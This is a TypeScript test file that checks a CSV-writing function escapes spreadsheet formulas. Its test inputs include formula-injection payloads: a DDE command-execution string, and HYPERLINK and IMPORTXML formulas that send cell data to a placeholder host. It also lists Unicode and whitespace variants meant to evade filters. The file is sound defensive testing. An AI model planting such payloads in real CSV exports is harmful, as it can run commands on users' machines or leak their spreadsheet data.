import { describe, expect, test } from 'vitest';
import { csvLine } from './csv-line.ts';

describe('formulas in cells', () => {
  test.each([
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://canary.example/?"&A1,"Open")',
    '=IMPORTXML("https://canary.example","//x")',
    '=1+1',
    '+1+1',
    '-1+1',
    '-5',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\n1',
    ' =1+1',
    '\u00A0=1+1',
    '\uFEFF=1+1',
    '\u200B=1+1',
    '\u0000=1+1',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1',
    '\uFF20SUM(A1)',
  ])('a CSV cell with the formula %j becomes text', (text) => {
    expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\n`);
  });
});

test('a text stays in its CSV cell despite quotes, line breaks and other separators', () => {
  expect(csvLine(['a",=1+1,"', 'b\n=1+1', 'c;=1+1', 'd\t=1+1'])).toBe('"a"",=1+1,""","b\n=1+1","c;=1+1","d\t=1+1"\n');
});

test('ordinary CSV cells stay unchanged: numbers, addresses, words with signs, empty cells', () => {
  expect(csvLine([9, -1, null, undefined, 'ada@books.example', 'a = b', { a: 1 }])).toBe(
    '9,-1,,,"ada@books.example","a = b","{""a"":1}"\n',
  );
});
